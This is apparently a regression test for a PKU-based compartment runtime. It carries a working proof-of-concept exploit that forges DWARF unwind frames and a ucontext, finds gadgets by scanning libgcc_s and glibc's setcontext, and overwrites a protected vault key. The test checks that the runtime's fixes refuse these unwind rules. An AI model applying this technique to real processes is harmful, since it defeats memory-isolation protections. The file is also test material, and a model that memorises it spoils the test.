// Review 64b, attacker model B (control of the default domain's program
// counter; model A can do the same by rewriting a return address and a
// saved rbp on the default domain's key-0 stack).
// What: review 62's fix (runtime/unwind-copy.c, put_reentry_check) stops
// a walk with a compartment's rights when a frame's CFA lies in the
// compartment's arena while the frame's rsp does not, and takes the
// frame's rsp from DW_OP_breg7. libgcc_s reads breg7 as the callee's CFA
// only when the callee's FDE gives rsp no rule; glibc's setcontext has an
// ordinary FDE (CIE "zR", no S: review 53's refusal does not see it)
// whose last row takes every callee-saved register, rsp and the return
// address from the ucontext at rdx, and the copy keeps that rule for rsp
// as it is. A frame walked through setcontext's row with rdx pointing at
// a forged ucontext in key-0 memory gives the next frame rsp, pc, rbx,
// rbp and r12-r15 of the attacker's choice: rsp in the arena passes the
// check, and the walk lands in a live catch of the vault with rbx = the
// vault's key, which the catch writes.
// How: vault_process calls out to app_event in a try; app_event learns
// A, the vault-stack address of the return address into vault_process,
// from the call out's saved stack pointer on its own stack (key 0, as in
// review 59). It jumps to the vault's entry vault_throw (which throws
// E{POWNED}) with rbp = R (a key-0 buffer) and a return address ra1 right
// after a call inside libgcc_s's _Unwind_RaiseException, where its FDE
// says CFA = rbp + 16, rdx at CFA - 64. The vault's unwinder: entry
// trampoline -> vault_throw's thunk (default stack, honest) -> F1 at ra1
// (CFA = R + 16, rdx = &u read from R - 48, return address [R + 8] =
// setcontext's row + 1) -> F2 in setcontext (CFA = rdx = &u: key-0, no
// check applies; rsp = u's RSP = A, pc = u's RIP = app_event + 1, rbx =
// &vault_key) -> F3 at app_event's first row (CFA = rsp + 8 = A + 8 in
// the arena, its rsp A in the arena too: the check passes; return address
// [A], read with the vault's rights: the real one into vault_process) ->
// vault_process's live frame and catch with rbx = &vault_key. At -O2 the
// catch stores e.v through rbx (status). Done in a forked child; the
// parent then finishes the honest request.
// Control "noctx": the same jump with F1 pointed straight at the vault's
// stack (R = A - 8, so CFA = A + 8 while F1's rsp is on the default
// stack): review 62's check stops it (the child dies of SIGSEGV with the
// stop line). Control "control": app_event calls vault_throw(7) honestly;
// the exception comes out through the call out into vault_process's own
// catch ("returned 1, status 7"). Plain: no throw ("returned 0, status 5").
// Seen in the guest (LLVM 19, -O2, filter on) on main at 56847a0: attack
// child: "vault_process returned 1", "ATTACK SUCCEEDED: the vault's key
// now begins \"POWNED!\"", exited 0, 3 of 3; noctx: the stop line and
// "attack child: signal 11", 3 of 3; control and plain as above.
// Suggested fix: with a compartment's rights, refuse (or rewrite) every
// copied rule for register 7 (rsp): DW_CFA_offset*, register, expression,
// val_* with reg 7 (setcontext, glibc's __longjmp and ____longjmp_chk
// have them; review 53 refused the S augmentation for the same reason),
// so breg7 is always the callee's CFA; or check rsp's rule itself.
// Fixed (runtime/unwind-copy.c, sets_sp): a copy whose program up to the
// pc's row gives rsp a rule is refused with a compartment's rights; the
// attack child stops with one line at setcontext's frame. Seen after:
// "attack child: exited 1", the line, key intact, 3 of 3 in the guest.
// Since review 70b the walk stops one frame earlier, at F1's rule for rdx
// (attacks-rev70b-eh-data-reg.cpp: a rule for rax or rdx off the vault's
// stacks reads BH_UNWIND_STOP_EH_DATA): "attack child: signal 11" and
// that stop line; setcontext's row is no longer reached this way.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -ldl -o %t
// RUN: %run %t plain | FileCheck %s --check-prefix=PLAIN
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t noctx > %t.noctx 2> %t.noctx.err
// RUN: FileCheck %s --check-prefix=NOCTX < %t.noctx
// RUN: FileCheck %s --check-prefix=STOP < %t.noctx.err
// RUN: %run %t > %t.out 2> %t.err
// RUN: FileCheck %s < %t.out
// RUN: FileCheck %s --check-prefix=REFUSED < %t.err
// PLAIN: vault_process returned 0, status 5
// PLAIN: vault key intact
// CONTROL: vault_process returned 1, status 7
// CONTROL: vault key intact
// NOCTX: gadgets found
// NOCTX-NOT: ATTACK SUCCEEDED
// NOCTX: attack child: signal 11
// NOCTX: vault_process returned 0, status 5
// NOCTX: vault key intact
// STOP: bulkhead: the unwinder stopped in compartment 'vault' at a frame outside the compartment's stacks whose CFA lies in them
// REFUSED: bulkhead: the unwinder stopped in compartment 'vault' at a frame whose CFI keeps rax or rdx (a landing pad's exception and selector) off the compartment's stacks
// CHECK: gadgets found
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attack child:
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: vault_process returned 0, status 5
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: vault key intact
#include "Inputs/vault-key.h"
#include "Inputs/forged-unwind.h"
#include <dlfcn.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

/* Jumps to f with rdi = code, rbp = fp and the return address ra on the
 * stack, as if code at ra had called it. */
extern "C" void forged_call(uintptr_t fp, uintptr_t ra, long code,
                            uintptr_t f);
__asm__(".text\n.globl forged_call\n.type forged_call,@function\n"
        "forged_call:\n"
        "  movq %rdi, %rbp\n"
        "  subq $8, %rsp\n"
        "  pushq %rsi\n"
        "  movq %rdx, %rdi\n"
        "  jmpq *%rcx\n"
        ".size forged_call, .-forged_call\n");

/* The first place at or after p (within n bytes) holding the bytes s. */
static const uint8_t *find(const void *p, size_t n, const char *s,
                           size_t len) {
  const uint8_t *b = (const uint8_t *)p;
  for (size_t i = 0; i + len <= n; i++)
    if (!memcmp(b + i, s, len))
      return b + i;
  return NULL;
}

static uintptr_t frame[32]; /* F1's frame: R = &frame[16] */
static ucontext_t u;        /* F2's "ucontext" */

extern "C" __attribute__((noinline)) void app_event(long *status) {
  *status = 5;
  if (mode == 2)
    return;
  /* the return address into vault_process, on the vault's stack */
  uintptr_t a = vault_process_ra((char *)__builtin_frame_address(0));
  uintptr_t t;
  __asm__("leaq vault_throw(%%rip), %0" : "=r"(t));
  if (mode == 1) {
    vault_throw(7);
    return;
  }
  /* Library code, as loaded: libgcc_s's _Unwind_RaiseException (after
   * push %rdx; push %rax; sub $N, %rsp, the first call) and libc's
   * setcontext (mov 0xa0(%rdx), %rsp: its last row starts there). */
  void *gcc = dlopen("libgcc_s.so.1", RTLD_NOW | RTLD_NOLOAD);
  void *libc = dlopen("libc.so.6", RTLD_NOW | RTLD_NOLOAD);
  void *raise = gcc ? dlsym(gcc, "_Unwind_RaiseException") : NULL;
  void *setctx = libc ? dlsym(libc, "setcontext") : NULL;
  const uint8_t *push = raise ? find(raise, 0x80, "\x52\x50\x48\x81\xec", 5)
                              : NULL;
  const uint8_t *call = push ? find(push, 0x40, "\xe8", 1) : NULL;
  const uint8_t *row =
      setctx ? find(setctx, 0x80, "\x48\x8b\xa2\xa0\x00\x00\x00", 7) : NULL;
  if (!call || !row) {
    printf("gadgets not found\n");
    exit(1);
  }
  printf("gadgets found\n");
  uintptr_t *r = &frame[16];
  r[1] = (uintptr_t)row + 1; /* F1's return address: F2's row */
  r[-6] = (uintptr_t)&u;     /* F1's rdx, at CFA - 64 = R - 48 */
  u.uc_mcontext.gregs[REG_RSP] = (greg_t)a;
  u.uc_mcontext.gregs[REG_RIP] = (greg_t)((uintptr_t)app_event + 1);
  u.uc_mcontext.gregs[REG_RBX] = (greg_t)(uintptr_t)vault_key;
  uintptr_t rbp = mode == 3 ? a - 8 : (uintptr_t)r;
  pid_t pid = fork();
  if (pid == 0) {
    forged_call(rbp, (uintptr_t)call + 5, POWNED, t);
    _exit(3);
  }
  report_attack_child(pid);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  read_mode(argc, argv);
  if (argc > 1 && !strcmp(argv[1], "noctx"))
    mode = 3;
  long status = 0;
  int r = vault_process(&status);
  printf("vault_process returned %d, status %ld\n", r, status);
  report(r, status);
  printf("attacks-rev64b-setcontext-rsp-unwind: end\n");
  return 0;
}
